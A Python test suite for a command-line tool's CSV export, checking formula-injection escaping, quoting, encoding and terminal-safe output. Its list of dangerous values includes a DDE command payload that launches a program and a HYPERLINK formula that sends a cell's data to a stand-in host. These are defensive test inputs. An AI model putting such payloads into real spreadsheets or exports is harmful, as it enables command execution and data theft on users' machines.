"""CSV as an answer: read back as it was, and nothing that a spreadsheet would calculate."""

from __future__ import annotations

import csv
import io
import sys
from collections.abc import Iterator

import click
import pytest
from hypothesis import given
from hypothesis import strategies as st

from cli.terminal import output, spreadsheet
from cli.terminal.screen import Screen
from tests.strategies import examples

SIGNS = ("=", "+", "-", "@")
FORMULAS = [
    "=1+1",
    "+31 6",
    "-2",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example?"&A1,"Anna")',
    "\tAnna",
    "\rAnna",
    "\nAnna",
    " =1",
    "\u00a0=1",
    "\u3000@x",
    " \t\r\n +1",
    "\x0b-1",
    "\x00=1",
    "\x1b=1",
    "\u202e=1",
    "\u200b=1",
    "\ufeff=1",
    "＝1",  # noqa: RUF001
    "＋1",  # noqa: RUF001
    "－1",  # noqa: RUF001
    "＠x",  # noqa: RUF001
    "﹦1",
    " ＝1",  # noqa: RUF001
]
HARMLESS = [
    "",
    "Anna",
    " Anna",
    "a=b",
    "2027-03-01",
    "'x",
    "'=1",
    '"=1"',
    "(=1)",
    ",=1",
    "\u202eAnna",
    "#",
    "−1",  # noqa: RUF001
    "–",  # noqa: RUF001
    "½",
    " ",
    "Zoë 🦄",
]


def read(text: str) -> list[list[str]]:
    """A CSV as a program reads it."""
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def written(*rows: tuple[object, ...], header: tuple[str, ...] = ("a", "b")) -> str:
    return "".join(spreadsheet.lines(header, rows))


# Formulas


@pytest.mark.parametrize("value", FORMULAS, ids=ascii)
def test_what_may_be_a_formula_becomes_text(value: str) -> None:
    """A value that a spreadsheet may take for a formula gets a quote in front."""
    assert output.spreadsheet_safe(value) == f"'{value}"


@pytest.mark.parametrize("value", HARMLESS, ids=ascii)
def test_a_harmless_value_stays_as_it_is(value: str) -> None:
    """A value that no spreadsheet takes for a formula stays as it is."""
    assert output.spreadsheet_safe(value) == value


def test_no_cell_and_no_header_is_a_formula() -> None:
    """Neither a cell nor a column name is written as a formula."""
    # when
    text = written(("=1", "x"), header=("@a", "y"))

    # then
    assert read(text) == [["'@a", "y"], ["'=1", "x"]]


# Quotes


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("a,b", '"a,b"'),
        ('say "a"', '"say ""a"""'),
        ("a\nb", '"a\nb"'),
        ("a\rb", '"a\rb"'),
        ("a\r\nb", '"a\r\nb"'),
        (" a ", " a "),
        ("a;b\tc", "a;b\tc"),
        ("'a'", "'a'"),
        ("", ""),
        (None, ""),
        (7, "7"),
    ],
)
def test_a_cell_is_quoted_where_it_needs_to_be(value: object, cell: str) -> None:
    """A cell is quoted only where RFC 4180 needs quotes."""
    assert written((value, "x")) == f"a,b\n{cell},x\n"


def test_nothing_to_tell_is_a_header() -> None:
    """A CSV without rows is the header alone."""
    assert written() == "a,b\n"


# Whatever the values are

VALUES = st.one_of(
    st.none(),
    st.integers(),
    st.sampled_from([*FORMULAS, *HARMLESS]),
    st.text(st.sampled_from("=+-@\t\r\n '\",;a\x00\x1b\u202e\ufeff＝")),  # noqa: RUF001
    st.text(),
)


@examples(500)
@given(st.lists(st.tuples(VALUES, VALUES, VALUES), max_size=5))
def test_every_value_is_read_back_with_at_most_a_quote_in_front(
    rows: list[tuple[object, ...]],
) -> None:
    """Any value is read back from the CSV as it was, with one quote in front at most, and never
    begins like a formula."""
    # when
    _, *found = read(written(*rows, header=("a", "b", "c")))

    # then
    assert len(found) == len(rows)
    for cells, values in zip(found, rows, strict=True):
        for cell, value in zip(cells, values, strict=True):
            plain = "" if value is None else str(value)
            assert cell in (plain, f"'{plain}")
            assert not cell.startswith((*SIGNS, "\t", "\r", "\n"))
            assert not cell.strip().startswith(SIGNS)


# Writing


def printed(
    capsysbinary: pytest.CaptureFixture[bytes], count: int, *, bom: bool = False
) -> list[bytes]:
    rows = ((number, "Zoë\x1b[31m") for number in range(count))
    spreadsheet.print_csv(("n", "name"), rows, bom=bom)
    return capsysbinary.readouterr().out.splitlines()


@pytest.mark.parametrize("count", [0, 1, 999, 1000, 1001, 2500])
def test_every_line_is_written_once(capsysbinary: pytest.CaptureFixture[bytes], count: int) -> None:
    """Every row is written exactly once, whatever the number of rows."""
    # when
    header, *rows = printed(capsysbinary, count)

    # then
    assert header == b"n,name"
    assert rows == [f"{number},Zoë\x1b[31m".encode() for number in range(count)]


@pytest.mark.parametrize("count", [0, 2500])
def test_a_byte_order_mark_stands_at_the_beginning_and_nowhere_else(
    capsysbinary: pytest.CaptureFixture[bytes], count: int
) -> None:
    """A byte-order mark stands at the beginning of the CSV and nowhere else."""
    # when
    header, *rows = printed(capsysbinary, count, bom=True)

    # then
    assert header == b"\xef\xbb\xbfn,name"
    assert [row for row in rows if b"\xef\xbb\xbf" in row] == []


def test_a_csv_is_utf_8_whatever_the_encoding_of_standard_output(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A CSV is written in UTF-8, whatever the encoding of standard output is."""
    # given
    out = io.BytesIO()
    monkeypatch.setattr(sys, "stdout", io.TextIOWrapper(out, encoding="latin-1"))

    # when
    spreadsheet.print_csv(("name",), [("Zoë Łoś",), ("name of a file \udcff",)])

    # then
    assert out.getvalue() == "name\nZoë Łoś\nname of a file \\udcff\n".encode()


def test_rows_are_written_while_they_come(capsysbinary: pytest.CaptureFixture[bytes]) -> None:
    """Rows are written in portions while they come, so that a large company does not need the
    memory twice."""
    # given
    seen: list[int] = []

    def rows() -> Iterator[tuple[int]]:
        for number in range(5_000):
            seen.append(len(capsysbinary.readouterr().out))
            yield (number,)

    # when
    spreadsheet.print_csv(("n",), rows())

    # then
    assert seen[0] == 0
    assert sum(1 for each in seen if each) == 5


def test_on_a_terminal_no_value_does_anything_to_the_screen(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """On a terminal, control characters of a CSV are shown as escapes."""
    # given
    terminal = click.Context(click.Command("x"), obj={"screen": Screen(True, 80, 24)})

    # when
    with terminal:
        spreadsheet.print_csv(("name", "none"), [("\x1b[31m\u202eZoë,\x9b", None), ("=1", "\x07")])

    # then
    assert capsys.readouterr().out == ('name,none\n"\\x1b[31m\\u202eZoë,\\x9b",\n\'=1,\\x07\n')
